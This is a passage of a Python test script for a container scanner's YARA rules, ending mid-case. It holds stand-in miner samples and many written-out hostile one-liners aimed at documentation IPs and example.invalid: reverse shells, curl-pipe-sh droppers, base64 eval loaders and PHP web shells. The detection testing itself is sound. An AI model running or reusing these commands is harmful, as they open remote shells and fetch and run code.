#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Data-driven tests of the bundled YARA rules (rules/*.yar).

usage: test_rules.py STOWAWAY_BINARY

For every bundled rule id there are stand-in samples that must match it and
near misses that must not. Samples are harmless: strings in the shape of the
real thing (option tables, command lines, config keys), never working
malware; addresses are from the documentation ranges (203.0.113.0/24,
198.51.100.0/24) or *.invalid, wallets are made-up base58 text, and binary
stand-ins are built here (an ELF or PE header followed by strings).

Two passes:
  1. `stowaway rules test FILE...` over each sample written to a temp file
     (content rules; rules that depend on the file's location inside an
     image are skipped here, as a local path is not an image path);
  2. one OCI image (tests/fixtures/imagelib.py) with every sample at its
     intended path, spread over layers, scanned with `stowaway scan
     --format json`: each match case must give its rule id at its path in
     its layer, each near miss must not.
It also checks that `stowaway rules list` lists every id defined in
rules/*.yar (a rule that fails to compile or loses its meta shows up here),
that every id has at least one match and one near-miss case, and that the
stowaway binary (which embeds the rules, masked)
match nothing.

Prints one line per case and ends with "rules: N passed, N failed".
"""
import hashlib
import json
import os
import platform
import random
import re
import shutil
import struct
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
TOP = os.path.dirname(os.path.dirname(HERE))
sys.path.insert(0, os.path.join(TOP, "tests", "fixtures"))
from imagelib import E, EICAR, Layer, oci_image  # noqa: E402
from caserun import Checks  # noqa: E402

# ------------------------------------------------------------ stand-ins


def elf(*strings, pad=256):
    """An ELF64 header (magic, class, data, version, zeros) and strings."""
    head = b"\x7fELF\x02\x01\x01" + bytes(57)
    return head + b"\0".join(s.encode() if isinstance(s, str) else s for s in strings) + bytes(pad)


def noise(n):
    """n bytes that do not compress (a layer of zeros would trip max-ratio)."""
    return hashlib.shake_256(b"stowaway padding").digest(n)


def pe(*strings, wide=(), pe_offset=0x80):
    """A PE stand-in: MZ, e_lfanew at 0x3c, "PE\\0\\0", strings (some UTF-16)."""
    mz = bytearray(b"MZ" + bytes(0x3a) + struct.pack("<I", pe_offset))
    mz += bytes(pe_offset - len(mz))
    body = b"PE\0\0" + bytes(20)
    body += b"\0".join(s.encode() for s in strings) + b"\0"
    body += b"\0\0".join(s.encode("utf-16-le") for s in wide) + bytes(256)
    return bytes(mz) + body



# A made-up Monero-shaped address: "4" + base58 letters, 95 characters. It
# is not a real wallet (no valid checksum); it only has the shape.
WALLET = "4B" + ("StowawayFakeWa11etNotRea1" * 4)[:93]
assert len(WALLET) == 95 and not set(WALLET) & set("0OIl")
SUBADDR = "8A" + ("ShowsTheShapeJustNotAWa11et" * 4)[:93]
assert len(SUBADDR) == 95 and not set(SUBADDR) & set("0OIl")

IP = "203.0.113.7"    # TEST-NET-3, documentation only
IP2 = "198.51.100.2"  # TEST-NET-2

# ------------------------------------------------------------ the cases
#
# case(rule_id, name, image_path, data, match, location=False, layer=N,
#      not_ids=(...))
#   match: True = must produce rule_id at image_path; False = must not.
#   location: the rule depends on the path inside the image, so the case
#             is only checked in the image pass.
#   not_ids: other ids that must NOT be reported for this sample (to keep
#            one finding per file where rules step aside for each other).

CASES = []


def case(rid, name, path, data, match, location=False, layer=1, not_ids=()):
    if isinstance(data, str):
        data = data.encode()
    CASES.append(dict(id=rid, name=name, path=path.lstrip("/"), data=data, match=match,
                      location=location, layer=layer, not_ids=tuple(not_ids)))


def hit(rid, name, path, data, **kw):
    case(rid, name, path, data, True, **kw)


def miss(rid, name, path, data, **kw):
    case(rid, name, path, data, False, **kw)


# --- test file
hit("SW-TEST-EICAR", "eicar-file", "/opt/eicar.com", EICAR)
miss("SW-TEST-EICAR", "eicar-not-at-start", "/opt/eicar-quoted.txt", b"quoted: " + EICAR)

# --- XMRig
XMRIG_STANDIN = elf("XMRig 6.21.0 built for linux", "--donate-level=N", "--cpu-max-threads-hint=N",
                    "--randomx-1gb-pages", "rx/0", "cn/r", "stratum+tcp://", '{"id":1,"method":"login"}')
hit("SW-MINER-XMRIG", "xmrig-binary", "/usr/share/.java/jupdate", XMRIG_STANDIN,
    not_ids=("SW-MINER-STRATUM-CLIENT", "SW-MINER-POOL", "SW-MINER-CONFIG"))
# Larger files are scanned with the rules of their size tier (meta
# max_size, src/lib/detect/yaratier.c): rules without a promise stay.
hit("SW-MINER-XMRIG", "padded-to-3MiB", "/opt/tier/xmrig-3m", XMRIG_STANDIN + noise(3 << 20),
    not_ids=("SW-MINER-STRATUM-CLIENT", "SW-MINER-POOL"))
hit("SW-MINER-XMRIG", "padded-to-9MiB", "/opt/tier/xmrig-9m", XMRIG_STANDIN + noise(9 << 20),
    not_ids=("SW-MINER-STRATUM-CLIENT", "SW-MINER-POOL"))
hit("SW-MINER-XMRIG", "renamed-fork-4-options", "/usr/bin/kswapd0",
    elf("--donate-level=N", "--randomx-mode=MODE", "--randomx-no-numa", "--huge-pages-jit",
        "cn/r", "mining.subscribe"))
hit("SW-MINER-XMRIG", "donate-pool-domain", "/opt/bin/helper",
    elf("donate.v2.xmrig.com", "--cpu-max-threads-hint", "rx/0"))
miss("SW-MINER-XMRIG", "doc-mentions-xmrig", "/opt/notes/blocklist.txt",
     "Processes to alert on: xmrig (it takes --donate-level; algorithms randomx, rx/0)\n")
miss("SW-MINER-XMRIG", "one-option-only", "/opt/bin/one-opt",
     elf("xmrig", "--donate-level", "rx/0", "stratum+tcp://"))

RULE_PACK = ('rule Miner_Strings\n{\n    meta:\n        author = "someone"\n    strings:\n'
             '        $a = "xmrig" nocase\n        $b = "--donate-level"\n        $c = "stratum+tcp://"\n'
             '        $d = "--cpu-max-threads-hint"\n        $e = "rx/0"\n        $f = "pool.supportxmr.com:3333"\n'
             '    condition:\n        3 of them\n}\n')
# A plain-text rule pack quotes what it looks for: it is flagged, on purpose
# (excusing files that look like YARA rules would let attackers hide).
hit("SW-MINER-XMRIG", "yara-rule-pack", "/opt/scanner/rules/miners.yar", RULE_PACK)

# --- xmr-stak
hit("SW-MINER-XMRSTAK", "xmr-stak-binary", "/usr/local/bin/xmr-stak-rx",
    elf("xmr-stak-rx 1.0.5 Based on CPU mining code by wolf9466", "--noCPU", "--noAMD", "--noNVIDIA",
        "--currency NAME"))
hit("SW-MINER-XMRSTAK", "xmr-stak-pools-txt", "/opt/miner/pools.txt",
    '/* xmr-stak pools config */\n"pool_list" :\n[\n  {"pool_address" : "pool.example.invalid:4444", '
    '"wallet_address" : "%s", "rig_id" : "", "pool_password" : "x", "use_nicehash" : false, '
    '"use_tls" : false, "tls_fingerprint" : "", "pool_weight" : 1 },\n],\n' % WALLET,
    not_ids=("SW-MINER-CONFIG", "SW-MINER-WALLET"))
miss("SW-MINER-XMRSTAK", "name-and-one-option", "/opt/notes/xmr-stak.txt",
     "xmr-stak was seen; it accepts --noCPU.\n")

# --- cpuminer
hit("SW-MINER-CPUMINER", "minerd-binary", "/usr/bin/minerd",
    elf("Usage: minerd [OPTIONS]", "--coinbase-addr=ADDR", "--no-getwork", "--no-gbt", "--no-longpoll",
        "mining.subscribe", "scrypt", "sha256d"))
hit("SW-MINER-CPUMINER", "cpuminer-opt-launch", "/opt/run-cpu.sh",
    "#!/bin/sh\n./cpuminer-opt -a yespower -o stratum+tcp://pool.example.invalid:6234 -u W.w1 "
    "--stratum-keepalive --hash-meter\n", not_ids=("SW-MINER-LAUNCHER", "SW-MINER-POOL"))
miss("SW-MINER-CPUMINER", "name-and-one-option", "/opt/notes/minerd.txt",
     "minerd is a process name; --scantime is one of its options.\n")

# --- T-Rex
hit("SW-MINER-TREX", "trex-binary", "/opt/gpu/t-rex",
    elf("T-Rex NVIDIA GPU miner v0.26.8", "--api-bind-http", "--lhr-tune", "--gpu-report-interval",
        "stratum+tcp://"))
miss("SW-MINER-TREX", "dinosaur", "/opt/notes/dino.txt",
     "The T-Rex lived in the late Cretaceous. --api-bind-http is unrelated.\n")

# --- lolMiner
hit("SW-MINER-LOLMINER", "lolminer-launch", "/opt/gpu/start.sh",
    "#!/bin/bash\n./lolMiner --algo ETHASH --pool pool.example.invalid:2020 --user W.rig "
    "--ethstratum ETHPROXY --apiport 8020 --watchdog exit\n")
miss("SW-MINER-LOLMINER", "name-and-one-option", "/opt/notes/lol.txt", "lolMiner --apiport 8020\n")

# --- NBMiner
hit("SW-MINER-NBMINER", "nbminer-binary", "/opt/gpu/nbminer",
    elf("NBMiner - Crypto GPU Miner", "--cuckoo-intensity", "--enable-dag-cache", "--no-nvml"))
miss("SW-MINER-NBMINER", "name-and-one-option", "/opt/notes/nb.txt", "NBMiner --no-nvml\n")

# --- GMiner
hit("SW-MINER-GMINER", "gminer-binary", "/opt/gpu/miner",
    elf("GMiner v3.44", "--dual_server", "--electricity_cost", "--templimit"))
miss("SW-MINER-GMINER", "word-contains-gminer", "/opt/notes/blog.txt",
     "blogminer options: --dual_server --electricity_cost\n")

# --- PhoenixMiner / Claymore
hit("SW-MINER-PHOENIX", "phoenix-launch", "/opt/gpu/start-phoenix.sh",
    "#!/bin/sh\n./PhoenixMiner -pool ssl://pool.example.invalid:5555 -wal W.rig -cdmport 3333 "
    "-dagrestart 1 -rvram 1\n")
hit("SW-MINER-PHOENIX", "claymore-options", "/opt/gpu/config.txt",
    "-epool pool.example.invalid:4444\n-ewal W.rig\n-epsw x\n-dpool pool2.example.invalid:3333\n")
miss("SW-MINER-PHOENIX", "two-options-no-name", "/opt/gpu/other.txt", "-epsw x\n-ewal W\n")

# --- SRBMiner
hit("SW-MINER-SRBMINER", "srbminer-launch", "/opt/srb/start.sh",
    "#!/bin/sh\n./SRBMiner-MULTI --algorithm randomx --pool pool.example.invalid:3333 --wallet %s "
    "--disable-gpu --cpu-threads 4\n" % WALLET, not_ids=("SW-MINER-LAUNCHER", "SW-MINER-WALLET"))
miss("SW-MINER-SRBMINER", "name-and-one-option", "/opt/notes/srb.txt", "SRBMiner --disable-gpu\n")

# --- miner configuration
hit("SW-MINER-CONFIG", "xmr-json-stratum", "/etc/xmr.json",
    '{"autosave": true, "pools": [{"url": "stratum+tcp://pool.example.invalid:3333",'
    ' "user": "WALLET-PLACEHOLDER", "pass": "x", "algo": "rx/0"}]}\n',
    not_ids=("SW-MINER-POOL",))
hit("SW-MINER-CONFIG", "xmrig-config-keys", "/opt/app/config.json",
    '{\n "donate-level": 1,\n "randomx": {"1gb-pages": true},\n "cpu": {"max-threads-hint": 50},\n'
    ' "pools": [{"url": "pool.hashvault.pro:443", "user": "%s", "tls": true}]\n}\n' % WALLET,
    not_ids=("SW-MINER-POOL", "SW-MINER-WALLET"))
hit("SW-MINER-CONFIG", "stak-keys-without-name", "/opt/app/pools.txt",
    '"pool_list" : [ {"pool_address" : "pool.example.invalid:4444", "wallet_address" : "W", '
    '"pool_password" : "x", "use_tls" : false } ],\n')
miss("SW-MINER-CONFIG", "database-pool-config", "/opt/app/db.json",
     '{"pools": [{"url": "db.example.invalid:5432", "user": "app", "pass": "secret"}], "keepalive": true}\n')
miss("SW-MINER-CONFIG", "stratum-url-one-key", "/opt/app/one.json",
     '{"url": "stratum+tcp://pool.example.invalid:3333", "timeout": 5, "user": "x"}\n',
     not_ids=())

# --- launchers
DAO_PY = '''#!/usr/bin/env python3
# shaped like the dao.py launcher of poisoned images; a harmless stand-in
import os
import subprocess

BIN = "/usr/share/.java/jupdate"
POOL = "pool.supportxmr.com:443"
WALLET = "%s"

def main():
    subprocess.Popen([BIN, "-o", POOL, "-u", WALLET, "-k", "--tls"],
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

if __name__ == "__main__":
    main()
''' % WALLET
hit("SW-MINER-LAUNCHER", "dao-py", "/opt/app/dao.py", DAO_PY,
    not_ids=("SW-MINER-WALLET", "SW-MINER-POOL", "SW-MINER-POOL-DOMAIN"))
hit("SW-MINER-LAUNCHER", "shell-nohup-xmrig", "/opt/app/start.sh",
    "#!/bin/sh\ncd /opt/app\nnohup ./xmrig -o stratum+tcp://pool.example.invalid:3333 -u W -p x "
    "--donate-level 1 >/dev/null 2>&1 &\nexec java -jar app.jar\n",
    not_ids=("SW-MINER-XMRIG", "SW-MINER-POOL"))
hit("SW-MINER-LAUNCHER", "node-spawn", "/opt/app/index.js",
    "const { spawn } = require('child_process');\nconst W = '%s';\n"
    "spawn('./kthreadd', ['-o', 'gulf.moneroocean.stream:10128', '-u', W, '--cpu-max-threads-hint', '75'],"
    " { detached: true, stdio: 'ignore' }).unref();\n" % WALLET)
hit("SW-MINER-LAUNCHER", "perl-exec-minerd", "/opt/app/run.pl",
    "#!/usr/bin/perl\nexec('./minerd -a cryptonight -o stratum+tcp://pool.example.invalid:3333 -u w1 -p x');\n")
hit("SW-MINER-LAUNCHER", "renamed-binary-options", "/opt/app/boot.sh",
    "#!/bin/sh\nsetsid ./systemd-helper -o %s:3333 -u %s --donate-level 1 -a rx/0 &\n" % (IP, WALLET))
miss("SW-MINER-LAUNCHER", "cleanup-mentions-xmrig", "/opt/app/cleanup.py",
     "#!/usr/bin/env python3\nimport subprocess\n# remove xmrig leftovers from old hosts\n"
     "subprocess.run(['rm', '-f', '/tmp/xmrig.log'])\n")
miss("SW-MINER-LAUNCHER", "wallet-shaped-key-no-pool", "/opt/app/sign.py",
     "#!/usr/bin/env python3\nimport subprocess\nKEY = \"%s\"\nsubprocess.run(['gpg', '--sign', KEY])\n" % WALLET)
miss("SW-MINER-LAUNCHER", "ssh-tunnel", "/opt/app/tunnel.sh",
     "#!/bin/sh\nnohup ssh -o ServerAliveInterval=30 -L 5432:db.example.invalid:5432 user@bastion &\n")

# --- stratum client binary
hit("SW-MINER-STRATUM-CLIENT", "unknown-miner-elf", "/usr/local/bin/kworker",
    elf("mining.subscribe", "mining.authorize", "mining.submit", "mining.notify", "sha256d"))
hit("SW-MINER-STRATUM-CLIENT", "padded-to-9MiB", "/opt/tier/kworker-9m",
    elf("mining.subscribe", "mining.authorize", "mining.submit", "mining.notify", "sha256d") + noise(9 << 20))
miss("SW-MINER-STRATUM-CLIENT", "protocol-doc-text", "/opt/notes/stratum.txt",
     "Stratum methods: mining.subscribe, mining.authorize, mining.submit, mining.notify.\n")

# --- Windows miners
hit("SW-MINER-PE", "pe-generic-miner", "/opt/win/svchost.exe",
    pe("stratum+tcp://", "mining.subscribe", "ethash", "kawpow"))
hit("SW-MINER-PE", "pe-xmrig-wide", "/opt/win/xm.exe",
    pe("stratum+ssl://", "rx/0", wide=("XMRig", "xmrig.com")))
miss("SW-MINER-PE", "pe-without-algorithms", "/opt/win/tool.exe", pe("stratum+tcp://", "hello"))
miss("SW-MINER-PE", "mz-without-pe-header", "/opt/win/fake.exe",
     b"MZ" + bytes(0x3a) + struct.pack("<I", 0x80) + bytes(0x40) + b"NOPE" +
     b"stratum+tcp://\0mining.subscribe\0ethash\0")

# --- pool addresses
hit("SW-MINER-POOL", "stratum-url", "/opt/app/settings.ini",
    "[miner]\npool = stratum+ssl://pool.example.invalid:443\n")
hit("SW-MINER-POOL", "pool-host-port", "/opt/app/env.conf", "UPSTREAM=pool.supportxmr.com:3333\n")
miss("SW-MINER-POOL", "blocklist-with-ports", "/etc/firewall/blocked-pools.txt",
     "".join("%s:3333\n" % d for d in ("pool.supportxmr.com", "xmr-eu1.nanopool.org", "pool.minexmr.com",
                                       "xmr.2miners.com", "xmr.f2pool.com", "pool.hashvault.pro",
                                       "gulf.moneroocean.stream", "mine.c3pool.com")))
miss("SW-MINER-POOL", "stratum-scheme-only", "/opt/notes/proto.txt",
     "URLs look like stratum+tcp:// followed by a host.\n")

# --- wallets
hit("SW-MINER-WALLET", "wallet-with-miner-name", "/root/notes.txt",
    "payout address %s\nuse xmrig on the new hosts\n" % WALLET)
hit("SW-MINER-WALLET", "subaddress-with-algo", "/opt/app/payout.cfg",
    "wallet=%s\nargs=-a rx/0\n" % SUBADDR)
miss("SW-MINER-WALLET", "wallet-shape-alone", "/usr/lib/x86_64-linux-gnu/libfake.so.1",
     elf("table:", " %s " % WALLET, "more data"))
miss("SW-MINER-WALLET", "wallet-with-word-monero", "/opt/notes/donate.txt",
     "Donations (monero): %s\n" % WALLET)

# --- pool domain without port
hit("SW-MINER-POOL-DOMAIN", "pool-domain", "/opt/app/fetch.sh",
    "#!/bin/sh\n# settings come from supportxmr.com\nAPI=https://supportxmr.com/api/miner\n")
miss("SW-MINER-POOL-DOMAIN", "blocklist-many-domains", "/etc/hosts.blocked",
     "".join("0.0.0.0 %s\n" % d for d in ("supportxmr.com", "nanopool.org", "minexmr.com", "2miners.com",
                                           "f2pool.com", "hashvault.pro", "moneroocean.stream", "c3pool.com")))
miss("SW-MINER-POOL-DOMAIN", "pool-named-in-docs", "/usr/share/doc/somepkg/README",
     "Do not confuse with nanopool.org.\n", location=True)

# --- droppers
hit("SW-DROPPER-FETCH-PIPE", "curl-pipe-sh", "/opt/app/install.sh",
    "#!/bin/sh\nset -e\ncurl -fsSL https://get.example.invalid/install.sh | sh\n", layer=2)
hit("SW-DROPPER-FETCH-PIPE", "bash-c-curl", "/opt/app/setup",
    "#!/bin/bash\nbash -c \"$(curl -fsSL https://example.invalid/x.sh)\"\n", layer=2)
miss("SW-DROPPER-FETCH-PIPE", "readme-md", "/opt/app/README.md",
     "Install with:\n\n    curl -fsSL https://get.example.invalid/install.sh | sh\n", layer=2)
miss("SW-DROPPER-FETCH-PIPE", "download-then-separate-pipe", "/opt/app/get.sh",
     "#!/bin/sh\ncurl -fsSL https://example.invalid/file -o out\ncat out | grep x | sh\n", layer=2)
miss("SW-DROPPER-FETCH-PIPE", "docs-tree", "/usr/share/doc/foo/install.sh",
     "#!/bin/sh\ncurl -fsSL https://get.example.invalid/install.sh | sh\n", location=True, layer=2)

hit("SW-DROPPER-FETCH-IP", "curl-ip-pipe", "/opt/app/update.sh",
    "#!/bin/sh\ncurl -s http://%s/x.sh | bash\n" % IP, layer=2)
hit("SW-DROPPER-FETCH-IP", "wget-ip-chmod", "/opt/app/up2.sh",
    "wget http://%s:8080/k -O /opt/app/k; chmod +x /opt/app/k; /opt/app/k\n" % IP2, layer=2)
hit("SW-DROPPER-FETCH-IP", "python-exec-urlopen", "/opt/app/boot.py",
    "import urllib.request\nexec(urllib.request.urlopen('http://%s/p.py').read())\n" % IP, layer=2)
miss("SW-DROPPER-FETCH-IP", "curl-ip-health", "/opt/app/health.sh",
     "#!/bin/sh\ncurl -fs http://%s:8080/health || exit 1\n" % IP, layer=2)
miss("SW-DROPPER-FETCH-IP", "version-in-url-path", "/opt/app/inst.sh",
     "#!/bin/sh\ncurl -L https://example.invalid/releases/1.2.3.4/install.sh | sh\n", layer=2)

hit("SW-DROPPER-TMP-EXEC", "wget-tmp-chmod-nohup", "/opt/app/drop.sh",
    "#!/bin/sh\ncd /tmp; wget http://example.invalid/x -O /tmp/.x; chmod +x /tmp/.x; "
    "nohup /tmp/.x >/dev/null 2>&1 &\n", layer=2)
hit("SW-DROPPER-TMP-EXEC", "python-urlretrieve", "/opt/app/drop.py",
    "import os, subprocess, urllib.request\n"
    "urllib.request.urlretrieve('http://example.invalid/a', '/tmp/a')\n"
    "os.chmod('/tmp/a', 0o755)\nsubprocess.Popen(['/tmp/a'])\n", layer=2)
hit("SW-DROPPER-TMP-EXEC", "node-download-exec", "/opt/app/drop.js",
    "const https = require('https'), fs = require('fs'), { execFile } = require('child_process');\n"
    "const f = fs.createWriteStream('/tmp/.cache-helper');\n"
    "https.get('https://example.invalid/b', r => { r.pipe(f); f.on('finish', () => {\n"
    "  fs.chmodSync('/tmp/.cache-helper', 0o755); execFile('/tmp/.cache-helper'); }); });\n", layer=2)
miss("SW-DROPPER-TMP-EXEC", "download-unpack-no-exec", "/opt/app/getgo.sh",
     "#!/bin/sh\ncurl -o /tmp/go.tgz https://example.invalid/go.tgz && tar -C /usr/local -xzf /tmp/go.tgz "
     "&& rm /tmp/go.tgz\n", layer=2)
miss("SW-DROPPER-TMP-EXEC", "chmod-run-no-download", "/opt/app/local.sh",
     "#!/bin/sh\ncp /opt/app/tool /tmp/tool\nchmod +x /tmp/tool\n/tmp/tool --version\n", layer=2)

hit("SW-DROPPER-DECODE-EXEC", "base64-pipe-sh", "/opt/app/b.sh",
    "#!/bin/sh\necho ZWNobyBoZWxsbwo= | base64 -d | sh\n", layer=2)
hit("SW-DROPPER-DECODE-EXEC", "python-exec-b64", "/opt/app/b.py",
    "import base64\nexec(base64.b64decode('cHJpbnQoJ2hpJyk='))\n", layer=2)
hit("SW-DROPPER-DECODE-EXEC", "php-eval-b64", "/var/www/html/b.php",
    "<?php eval(base64_decode('ZWNobyAnaGknOw==')); ?>\n", layer=2)
hit("SW-DROPPER-DECODE-EXEC", "php-gzinflate-b64", "/var/www/html/c.php",
    "<?php eval(@gzinflate(base64_decode('S03OyFdIzs8tKEotLgYA'))); ?>\n", layer=2)
hit("SW-DROPPER-DECODE-EXEC", "python-marshal", "/opt/app/m.py",
    "import marshal\nexec(marshal.loads(BLOB))\n", layer=2)
hit("SW-DROPPER-DECODE-EXEC", "perl-eval-b64", "/opt/app/b.pl",
    "use MIME::Base64;\neval(decode_base64('cHJpbnQgImhpIg=='));\n", layer=2)
hit("SW-DROPPER-DECODE-EXEC", "node-eval-buffer", "/opt/app/b.js",
    "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n", layer=2)
hit("SW-DROPPER-DECODE-EXEC", "eval-subst-b64", "/opt/app/c.sh",
    "#!/bin/bash\neval \"$(echo ZWNobyBoaQo= | base64 --decode)\"\n", layer=2)
hit("SW-DROPPER-DECODE-EXEC", "python-system-b64", "/opt/app/b2.py",
    "import base64, os\nos.system(base64.b64decode('ZWNobyBoaQ==').decode())\n", layer=2)
hit("SW-DROPPER-DECODE-EXEC", "node-execsync-buffer", "/opt/app/b2.js",
    "require('child_process').execSync(Buffer.from('ZWNobyBoaQ==', 'base64').toString());\n", layer=2)
miss("SW-DROPPER-DECODE-EXEC", "decode-to-file", "/opt/app/d.sh",
     "#!/bin/sh\necho aGk= | base64 -d > /opt/app/out.bin\n", layer=2)
miss("SW-DROPPER-DECODE-EXEC", "python-decode-json", "/opt/app/d.py",
     "import base64, json\ncfg = json.loads(base64.b64decode(data))\n", layer=2)
miss("SW-DROPPER-DECODE-EXEC", "markdown-doc", "/opt/app/SECURITY.md",
     "Never run `echo ... | base64 -d | sh` from strangers.\n", layer=2)

# --- reverse shells
hit("SW-REVSHELL-DEVTCP", "bash-i-devtcp", "/opt/app/r1.sh",
    "#!/bin/bash\nbash -i >& /dev/tcp/%s/4444 0>&1\n" % IP, layer=2)
hit("SW-REVSHELL-DEVTCP", "exec-fd-loop", "/opt/app/r2.sh",
    "exec 5<>/dev/tcp/%s/443\ncat <&5 | while read line; do $line 2>&5 >&5; done\n" % IP, layer=2)
hit("SW-REVSHELL-DEVTCP", "sh-redirect-0", "/opt/app/r3.sh",
    "sh -c 'sh </dev/tcp/%s/9001 >&0 2>&0'\n" % IP2, layer=2)
miss("SW-REVSHELL-DEVTCP", "bash-binary-strings", "/opt/bin/bashlike",
     elf("/dev/tcp", "/dev/udp", "/dev/stdin", "network redirections /dev/tcp/host/port"), layer=2)
miss("SW-REVSHELL-DEVTCP", "healthcheck", "/opt/app/health2.sh",
     "#!/bin/bash\nexec 3<>/dev/tcp/localhost/6379\necho PING >&3\nhead -c 7 <&3 | grep -q PONG\n", layer=2)

hit("SW-REVSHELL-NETCAT", "nc-e", "/opt/app/n1.sh", "nc -e /bin/sh %s 4444\n" % IP, layer=2)
hit("SW-REVSHELL-NETCAT", "mkfifo-nc", "/opt/app/n2.sh",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc %s 4444 >/tmp/f\n" % IP, layer=2)
hit("SW-REVSHELL-NETCAT", "busybox-nc", "/opt/app/n3.sh", "busybox nc %s 4444 -e sh\n" % IP, layer=2)
hit("SW-REVSHELL-NETCAT", "openssl-fifo", "/opt/app/n4.sh",
    "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect %s:443 > /tmp/s\n" % IP,
    layer=2)
miss("SW-REVSHELL-NETCAT", "netcat-help-text", "/opt/bin/nclike",
     elf("connect to somewhere:\tnc [-options] hostname port[s] [ports] ...",
         "\t-c shell commands\tas `-e'; use /bin/sh to exec [dangerous!!]",
         "\t-e filename\t\tprogram to exec after connect"), layer=2)
miss("SW-REVSHELL-NETCAT", "port-check", "/opt/app/wait.sh",
     "#!/bin/sh\nuntil nc -z db 5432; do sleep 1; done\n", layer=2)

hit("SW-REVSHELL-SOCAT", "socat-exec-pty", "/opt/app/s1.sh",
    "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:%s:4444\n" % IP, layer=2)
hit("SW-REVSHELL-SOCAT", "socat-bind", "/opt/app/s2.sh",
    "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh\n", layer=2)
miss("SW-REVSHELL-SOCAT", "socat-forward", "/opt/app/s3.sh",
     "socat TCP-LISTEN:8080,fork TCP:backend:80\n", layer=2)
miss("SW-REVSHELL-SOCAT", "socat-exec-ssh-add", "/opt/app/s4.sh",
     "socat tcp-connect:%s:4444 exec:/usr/bin/ssh-add\n" % IP, layer=2)

PY_REV = ("python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
          "s.connect((\"%s\",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
          "import pty; pty.spawn(\"/bin/bash\")'\n" % IP)
hit("SW-REVSHELL-PYTHON", "python-one-liner", "/opt/app/p1.sh", PY_REV, layer=2)
hit("SW-REVSHELL-PYTHON", "python-popen-fileno", "/opt/app/p2.py",
    "import socket, subprocess\ns = socket.socket()\ns.connect(('%s', 4444))\n"
    "subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n" % IP,
    layer=2)
miss("SW-REVSHELL-PYTHON", "pty-and-client-no-dup", "/opt/app/p3.py",
     "import os, pty, socket\n\ndef spawn(argv):\n    pid, fd = pty.fork()\n    os.dup2(fd, 0)\n\n"
     "sock = socket.socket()\nsock.connect((host, port))\npty.spawn('/bin/sh')\n", layer=2)

hit("SW-REVSHELL-PERL", "perl-one-liner", "/opt/app/pl1.sh",
    "perl -e 'use Socket;$i=\"%s\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'\n" % IP, layer=2)
miss("SW-REVSHELL-PERL", "perl-client-redirect-log", "/opt/app/pl2.pl",
     "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => 'db.example.invalid:80');\n"
     "open(STDERR, '>&STDOUT');\nsystem('ls');\n", layer=2)

hit("SW-REVSHELL-PHP", "php-fsockopen", "/var/www/html/r.php",
    "<?php $sock=fsockopen(\"%s\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\"); ?>\n" % IP, layer=2)
miss("SW-REVSHELL-PHP", "php-smtp-check", "/var/www/html/check.php",
     "<?php $f = fsockopen('mail.example.invalid', 25); exec('ls'); fclose($f); ?>\n", layer=2)

hit("SW-REVSHELL-RUBY-NODE", "ruby-tcpsocket", "/opt/app/r.rb",
    "ruby -rsocket -e'f=TCPSocket.open(\"%s\",4444).to_i;exec sprintf(\"/bin/sh -i <&%%d >&%%d 2>&%%d\",f,f,f)'\n"
    % IP, layer=2)
hit("SW-REVSHELL-RUBY-NODE", "node-net-socket", "/opt/app/r.js",
    "(function(){ var net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []);\n"
    "var client = new net.Socket(); client.connect(4444, '%s', function(){ client.pipe(sh.stdin);\n"
    "sh.stdout.pipe(client); sh.stderr.pipe(client); }); })();\n" % IP, layer=2)
miss("SW-REVSHELL-RUBY-NODE", "node-http-spawn", "/opt/app/server.js",
     "const http = require('http'); const { spawn } = require('child_process');\n"
     "http.createServer((q, r) => { const p = spawn('sh', ['-c', 'date']); p.stdout.pipe(r); }).listen(8080);\n",
     layer=2)

hit("SW-REVSHELL-DEVTCP", "exec-196", "/opt/app/r4.sh",
    "0<&196;exec 196<>/dev/tcp/%s/4444; sh <&196 >&196 2>&196\n" % IP, layer=2)
hit("SW-REVSHELL-DEVTCP", "gawk-inet", "/opt/app/r5.sh",
    "awk 'BEGIN {s = \"/inet/tcp/0/%s/4242\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c;"
    " if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}'"
    " /dev/null\n" % IP, layer=2)

miss("SW-REVSHELL-DEVTCP", "gawk-network-client", "/usr/local/share/awk/client.awk",
     "BEGIN {\n  NetService = \"/inet/tcp/0/localhost/8888\"\n  print \"README\" |& NetService\n"
     "  while ((NetService |& getline) > 0)\n    print $0\n  close(NetService)\n}\n", layer=2)
miss("SW-REVSHELL-DEVTCP", "gawk-doc-example", "/usr/share/doc/gawk/examples/network/shell.awk",
     "BEGIN {s = \"/inet/tcp/0/%s/4242\"; s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c)}\n"
     % IP, location=True, layer=2)

# --- web shells
hit("SW-BACKDOOR-WEBSHELL", "php-system-get", "/var/www/html/img/x.php",
    "<?php if(isset($_GET['c'])){ system($_GET['c']); } ?>\n", layer=2)
hit("SW-BACKDOOR-WEBSHELL", "php-eval-post-b64", "/var/www/html/wp-content/cache.php",
    "<?php @eval(base64_decode($_POST['z'])); ?>\n", layer=2)
hit("SW-BACKDOOR-WEBSHELL", "jsp-runtime-exec", "/usr/local/tomcat/webapps/ROOT/cmd.jsp",
